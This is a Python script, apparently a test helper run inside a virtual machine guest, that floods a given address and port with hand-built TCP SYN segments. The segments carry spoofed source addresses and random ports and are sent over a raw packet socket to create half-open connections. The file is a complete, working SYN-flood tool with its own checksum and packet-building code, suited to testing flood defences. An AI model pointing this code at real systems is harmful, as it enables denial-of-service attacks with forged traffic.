#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""Sends SYN segments from addresses that nobody has, through a packet socket.

  flood.py DEVICE OWN_MAC THEIR_MAC ADDRESS PORT COUNT

Each from another address of 10.0.0.128 and above and another port, so that the answers go
nowhere: half-open connections. Runs in the guest."""
import random
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack('>%dH' % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return total ^ 0xffff


def syn(source, target, ports):
    head = struct.pack('>HHIIBBHHH', *ports, random.getrandbits(32), 0, 0x60, 2, 64240, 0, 0)
    head += struct.pack('>BBH', 2, 4, 1460)
    total = checksum(source + target + struct.pack('>BBH', 0, 6, len(head)) + head)
    head = head[:16] + struct.pack('>H', total) + head[18:]
    ip = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(head), 1, 0x4000, 64, 6, 0, source, target)
    return ip[:10] + struct.pack('>H', checksum(ip)) + ip[12:] + head


def mac(text):
    return bytes.fromhex(text.replace(':', ''))


def main(device, own, theirs, address, port, count):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind((device, 0))
        for number in range(int(count)):
            source = bytes((10, 0, 0, 128 + number % 100))
            frame = syn(source, socket.inet_aton(address),
                        (1024 + random.randrange(60000), int(port)))
            s.send(mac(theirs) + mac(own) + b'\x08\0' + frame)
    print('%s SYN segments sent' % count)


if __name__ == '__main__':
    main(*sys.argv[1:])
